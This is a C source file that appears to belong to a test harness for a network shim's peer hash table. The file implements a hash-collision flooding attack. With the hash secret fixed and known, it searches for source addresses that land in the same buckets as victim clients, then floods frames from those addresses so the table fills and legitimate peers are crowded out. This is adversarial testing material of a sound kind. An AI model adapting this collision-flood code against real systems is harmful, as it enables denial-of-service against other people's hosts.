// SPDX-License-Identifier: MIT
/*
 * Somebody who knows the secret of the hash, which fixedkey.so gave the library, and the cookie of
 * the server's network namespace: peers whose buckets in the table are those of the well-behaved
 * hosts. This file follows shim/peers/peer_table.h.
 */

#include "attack.h"
#include "fixedkey.h"
#include "peers/peer_table.h"

/* More than the buckets of all victims have slots. */
enum { POOL = 1 << 13, TRIES_MAX = 1 << 27 };

/* The buckets of a key are the same for all local ports. */
enum { PORT = 0 };

static struct end pool[POOL];
static unsigned int chosen;

/* The buckets in which an entry of a victim can be. */
static unsigned char *wanted;
static uint32_t buckets;
static struct hash_secret secret;

static struct peer_hash names_of(const struct end *end, uint64_t netns)
{
	struct peer peer = { .host = end->host, .scope = 0, .port = htons(end->port) };

	return peer_hash_of(&secret, peer, peer_salt(&secret, netns, 0));
}

/* peers_bucket() in shim/peers/peer_table.h. */
static unsigned char *bucket_of(struct peer_key key, int n)
{
	return &wanted[(key_bucket_hash(&key, n) >> 32) * buckets >> 32];
}

/* Is this peer in the way of victims, wherever it can be? */
static bool collides(const struct end *end, uint64_t netns)
{
	struct peer_hash hash = names_of(end, netns);

	for (int n = 0; n < KEY_BUCKETS; n++)
		if (!*bucket_of(key_of_peer(&hash, PORT), n))
			return false;
	return true;
}

void aim(struct attack *attack)
{
	buckets = (uint32_t)peers_bucket_count(attack->peers);
	wanted = calloc(buckets, 1);
	fixed_bytes(&secret, sizeof(secret));
	for (unsigned int i = 0; i < 2 * CLIENTS; i++) {
		struct end victim = { client_host(i / 2, i % 2), CLIENT_PORT };
		struct peer_hash hash = names_of(&victim, attack->netns);

		for (int n = 0; n < KEY_BUCKETS; n++)
			*bucket_of(key_of_peer(&hash, PORT), n) =
				*bucket_of(key_of_host(&hash, PORT), n) = 1;
	}
	for (unsigned int tries = 0; tries < TRIES_MAX && chosen < POOL; tries++) {
		struct end to = any_destination(attack), from = any_source(attack, &to);

		if (collides(&from, attack->netns))
			pool[chosen++] = from;
	}
	if (!chosen)
		exit(1);
}

/* In a table that is full, of anybody's entries. */
void aimed(struct attack *attack, struct frame *frame)
{
	struct end to = any_destination(attack), from = pool[attack->sent % chosen];

	if (attack->sent < 4 * attack->peers)
		from = any_source(attack, &to);
	while (!IN6_IS_ADDR_V4MAPPED(&from.host) != !IN6_IS_ADDR_V4MAPPED(&to.host))
		to = any_destination(attack);
	frame_flood(attack, frame, &from, &to);
}
